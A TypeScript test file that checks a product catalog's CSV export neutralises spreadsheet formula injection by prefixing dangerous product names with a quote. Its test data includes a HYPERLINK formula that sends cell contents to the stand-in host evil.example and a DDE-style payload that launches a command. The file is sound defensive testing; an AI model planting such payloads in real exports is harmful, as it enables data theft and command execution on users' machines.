/**
 * CSV in and out of the catalog: the export cannot smuggle a spreadsheet formula out of a product
 * name, and the import refuses a source quantity exactly as the API does.
 */
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { as, buildTestApp, type TestApp } from '../helpers/app';
import { seedCatalog, type SeededCatalog } from './catalog-seed';

describe('catalog CSV safety', () => {
  let t: TestApp;
  let seed: SeededCatalog;
  let manager: ReturnType<typeof as>;
  before(async () => {
    t = await buildTestApp();
    seed = await seedCatalog(t.db.knex);
    manager = as(t.app, t.managerCookie);
  });
  after(async () => t.close());

  it('exports text that a spreadsheet would run as a formula with a leading quote, and numbers as numbers', async () => {
    const names: Record<string, string> = {
      'BAG-1': '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
      LAMP: "+1+cmd|' /C calc'!A0",
      MUG: '-2+3',
      'TEE-RED-S': '@SUM(1,2)',
      'TEE-BLUE-M': '\tTabbed',
      KIT: '\rReturn',
    };
    for (const [sku, name] of Object.entries(names)) await t.db.knex('products').where({ sku }).update({ name });
    // A negative salable quantity (a reservation beyond the stock) and a plain price stay numbers.
    const held = await manager({
      method: 'POST',
      url: '/api/catalog/reservations',
      payload: { sku: 'MUG', stockId: seed.stocks.main, quantity: -3, reason: 'order', reference: 'csv-test' },
    });
    assert.equal(held.statusCode, 201, held.body);

    const res = await manager({ method: 'GET', url: '/api/catalog/products.csv?sort=sku' });
    assert.equal(res.statusCode, 200, res.body);
    const rows = new Map((parse(res.body, { columns: true }) as Record<string, string>[]).map((r) => [r.sku, r]));
    for (const [sku, name] of Object.entries(names)) assert.equal(rows.get(sku)?.name, `'${name}`, sku);
    assert.equal(rows.get('MUG')?.salable_qty, '-3', 'a negative number is not text');
    assert.equal(rows.get('MUG')?.price, '8');
    assert.equal(rows.get('BAG-1')?.websites, 'base,eu');
    assert.equal(rows.get('BAG-1')?.sku, 'BAG-1', 'harmless text as it is');
  });
});
